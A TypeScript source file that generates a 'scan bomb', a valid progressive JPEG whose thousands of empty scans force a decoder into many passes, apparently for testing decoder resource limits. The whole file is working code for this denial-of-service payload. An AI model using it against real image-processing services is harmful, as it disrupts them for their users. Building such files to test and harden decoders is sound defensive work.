/**
 * Creates a valid progressive JPEG of one flat grey with thousands of scans: one of the DC coefficients, then scans
 * over AC coefficients without content. Each costs the decoder a pass over every block, and the file a few bytes per
 * 32,767 blocks: 30 megapixels and 2,647 scans are 220 kB and many seconds. ITU-T T.81, annex G.
 *
 * @param scans at least 1
 */
export function makeScanBomb(width: number, height: number, scans: number): Buffer {
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8)
  const parts = [
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, [0, ...Array.from({ length: 64 }, () => 16)]),
    segment(0xc2, [8, ...word(height), ...word(width), 1, 1, 0x11, 0]),
    // DC: only category 0, code "0".
    segment(0xc4, [0x00, ...codeLengths([1]), 0]),
    // AC: end of band for 1 to 2^14 blocks and more, each symbol in four bits.
    segment(0xc4, [0x10, ...codeLengths([0, 0, 0, 15]), ...endOfBandSymbols]),
    segment(0xda, [1, 1, 0x00, 0, 0, 0]),
    packBits(Array.from({ length: blocks }, () => [0, 1] as const)),
  ]
  const emptyScan = Buffer.concat([
    segment(0xda, [1, 1, 0x00, 1, 63, 0]),
    packBits(endOfBands(blocks)),
  ])
  for (let scan = 1; scan < scans; scan += 1) parts.push(emptyScan)
  return Buffer.concat([...parts, Buffer.from([0xff, 0xd9])])
}

/** EOB runs of category r cover 2^r blocks and more, with the excess in r further bits. */
const endOfBandSymbols = Array.from({ length: 15 }, (_, category) => category << 4)

type Bits = readonly [value: number, length: number]

function endOfBands(blocks: number): readonly Bits[] {
  const bits: Bits[] = []
  for (let left = blocks; left > 0;) {
    const category = Math.min(14, Math.floor(Math.log2(left)))
    const run = Math.min(left, 2 ** (category + 1) - 1)
    // Codes of four bits are assigned in the order of the symbols, so the category is its own code.
    bits.push([category, 4], [run - 2 ** category, category])
    left -= run
  }
  return bits
}

/** Packs entropy-coded data: highest bits first, the last byte filled with ones, a zero after each FF. */
function packBits(values: readonly Bits[]): Buffer {
  const bytes: number[] = []
  let held = 0
  let count = 0
  const put = (value: number, length: number) => {
    for (let bit = length - 1; bit >= 0; bit -= 1) {
      held = (held << 1) | ((value >> bit) & 1)
      count += 1
      if (count < 8) continue
      bytes.push(held)
      if (held === 0xff) bytes.push(0)
      held = 0
      count = 0
    }
  }
  for (const [value, length] of values) put(value, length)
  if (count > 0) put(2 ** (8 - count) - 1, 8 - count)
  return Buffer.from(bytes)
}

/** Returns the number of codes of each length from 1 to 16. */
function codeLengths(counts: readonly number[]): readonly number[] {
  return Array.from({ length: 16 }, (_, index) => counts[index] ?? 0)
}

function segment(marker: number, content: readonly number[]): Buffer {
  return Buffer.from([0xff, marker, ...word(content.length + 2), ...content])
}

function word(value: number): readonly [number, number] {
  return [value >> 8, value & 255]
}
